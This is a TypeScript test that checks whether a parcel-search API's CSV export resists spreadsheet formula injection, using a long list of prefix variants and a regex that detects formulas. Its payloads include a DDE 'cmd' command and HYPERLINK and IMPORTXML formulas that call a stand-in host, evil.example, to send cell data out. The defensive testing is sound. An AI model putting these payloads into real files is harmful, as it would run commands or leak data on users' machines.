import type { Findings } from '../proof/findings.ts';
import type { Rig } from './rig.ts';

/** Beginnings that a spreadsheet takes for a formula, or that hide one. */
const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  '"=',
  '%3D',
  '\u00a0=',
  '\ufeff=',
  '\u200b=',
  '|',
  ';=',
  ',=',
];
const FORMULAS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example?x="&A1,"more")',
  'IMPORTXML("https://evil.example","//a")',
  '1+1',
  'SUM(1,1)*cmd',
];
export const TEXTS = [
  'owner_name',
  'owner_name_2',
  'mailing_address',
  'mailing_city',
  'street',
  'city',
  'land_use',
  'land_use_code',
  'zoning',
  'source',
];
const COUNTY = '37183';

/** The rows of a CSV, as RFC 4180 has them. */
export function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  const pattern = /(?:"((?:[^"]|"")*)"|([^,\r\n"]*))(,|\r\n|\n|$)/y;
  while (pattern.lastIndex < csv.length) {
    const [, quoted, plain, end] = pattern.exec(csv)!;
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain!);
    if (end !== ',' && pattern.lastIndex < csv.length) rows.push([]);
  }
  return rows;
}

const isNumber = (cell: string) => /^-?\d+(\.\d+)?$/.test(cell);
/** What Excel, LibreOffice or Sheets runs, also behind what they take off, or where they part cells by semicolons. */
const RUNS = /(^|[;\t\n])[\s\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r\n]/u;

/** Loads formulas into every text of parcels, and exports them: no cell of the CSV may be one. */
export async function sheetFindings({ place }: Rig): Promise<Findings> {
  const texts = STARTS.flatMap((start) => FORMULAS.map((formula) => `${start}${formula}`));
  const parcels = texts.map((text, at) => ({
    county_fips: COUNTY,
    parcel_id: `${['=', '+', '-', '@'][at % 4]}F-${at}`,
    location: { lat: 35.7 + at / 10_000, lon: -78.6 },
    ...Object.fromEntries(TEXTS.map((name) => [name, text])),
  }));
  const { created, error } = await place.harness.load('parcels', parcels);
  const body = {
    filters: { ids: parcels.map(({ parcel_id }) => `${COUNTY}:${parcel_id}`).slice(0, 500) },
    format: 'csv',
  };
  const { text, status } = await place.call('POST', '/api/v1/search/export', place.first.key, body);
  const rows = cellsOf(text);
  const faults = rows
    .flat()
    .filter((cell) => RUNS.test(cell) && !isNumber(cell))
    .map((cell) => `a cell that runs: ${JSON.stringify(cell).slice(0, 80)}`);
  if (status !== 200 || error !== null || rows.length - 1 !== created)
    faults.push(`${created} loaded, ${rows.length - 1} exported (${status}, ${error})`);
  return {
    title: `Spreadsheets: ${texts.length} formulas in ${TEXTS.length} texts`,
    figures: [
      `${rows.length - 1} rows, ${rows.flat().length} cells exported as CSV`,
      'any text: test/domain/spreadsheet.test.ts',
    ],
    faults: [...new Set(faults)],
  };
}
